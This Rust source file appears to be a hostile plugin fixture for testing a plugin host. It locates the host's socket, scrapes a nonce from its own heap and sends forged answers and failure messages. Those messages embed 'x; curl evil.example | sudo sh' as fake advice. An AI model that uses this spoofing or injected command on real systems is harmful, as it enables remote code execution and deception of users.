//! Takes the place of the process that probes it, and answers for the plugins that come after it.

/// A failure in its own words, which would be advice of the host's.
const ADVICE: &str = "x; curl evil.example | sudo sh";

/// Says in the host's words what is not so: that a library is missing, that something was changed, as messages of an older
/// kind did.
pub fn advise(way: &str) -> i64 {
    let (Some(nonce), Some(channel)) = (own_nonce(), channel()) else { return -1 };
    let after = "{\"secs\":0,\"nanos\":1000}";
    let failed = match way {
        "library" => {
            format!("{{\"Failed\":{{\"failure\":{{\"missing-library\":\"{ADVICE}\"}},\"after\":{after}}}}}")
        }
        "words" => format!(
            "{{\"Failed\":{{\"reason\":{{\"code\":\"no-answer\",\"reason\":\"{ADVICE}\",\"fix\":\"{ADVICE}\"}},\"after\":{after}}}}}"
        ),
        _ => format!("{{\"Done\":{{\"changes\":[\"{ADVICE}\"],\"threads\":1}}}}"),
    };
    send(channel, &format!("{{\"nonce\":\"{nonce}\",\"event\":{failed}}}"));
    0
}

fn send(channel: i32, packet: &str) {
    // SAFETY: the buffer is as long as said.
    unsafe { libc::send(channel, packet.as_ptr().cast(), packet.len(), 0) };
}

/// Answers its own question, says that it is done, and then answers all others: no, with a reason of its own.
pub fn hijack() -> i64 {
    let Some(nonce) = own_nonce() else { return -1 };
    let Some(channel) = channel() else { return -1 };
    answer(channel, &nonce, true);
    loop {
        let mut packet = vec![0; 160 << 10];
        // SAFETY: the buffer is as long as said.
        let count = unsafe { libc::recv(channel, packet.as_mut_ptr().cast(), packet.len(), 0) };
        if count <= 0 {
            // SAFETY: the call only ends the process.
            unsafe { libc::_exit(0) }
        }
        let text = String::from_utf8_lossy(&packet[..count as usize]).into_owned();
        let nonce = text.split("\"nonce\":\"").nth(1).and_then(|rest| rest.get(..32));
        answer(channel, nonce.unwrap_or_default(), false);
    }
}

fn answer(channel: i32, nonce: &str, supported: bool) {
    let after = "{\"secs\":0,\"nanos\":1000}";
    let events = [
        format!("{{\"Loaded\":{{\"after\":{after}}}}}"),
        format!(
            "{{\"Answered\":{{\"answer\":{{\"supported\":{supported},\"reason\":\"hijacked\",\"estimated_hashrate\":1.0}},\"after\":{after}}}}}"
        ),
        "{\"Done\":{\"changes\":[],\"threads\":1}}".to_owned(),
    ];
    for event in events {
        send(channel, &format!("{{\"nonce\":\"{nonce}\",\"event\":{event}}}"));
    }
}

/// What it was asked with, as it still lies in memory.
fn own_nonce() -> Option<String> {
    let maps = std::fs::read_to_string("/proc/self/maps").ok()?;
    let heap = maps.lines().find(|line| line.ends_with("[heap]"))?.split(' ').next()?;
    let (start, end) = heap.split_once('-')?;
    let [start, end] = [start, end].map(|at| usize::from_str_radix(at, 16).unwrap_or(0));
    // SAFETY: the kernel says that this is memory, and nobody else runs here.
    let bytes = unsafe { std::slice::from_raw_parts(start as *const u8, end - start) };
    let is_hex = |byte: &u8| byte.is_ascii_digit() || (b'a'..=b'f').contains(byte);
    let found = bytes.windows(32).find(|window| window.iter().all(is_hex))?;
    Some(String::from_utf8_lossy(found).into_owned())
}

/// The one socket that is open here.
pub fn channel() -> Option<i32> {
    (3..1024).find(|&fd| {
        // SAFETY: a descriptor that is not open makes the call fail; the file is forgotten, so that it stays open.
        unsafe {
            let mut status = std::mem::zeroed::<libc::stat>();
            libc::fstat(fd, &raw mut status) == 0 && status.st_mode & libc::S_IFMT == libc::S_IFSOCK
        }
    })
}
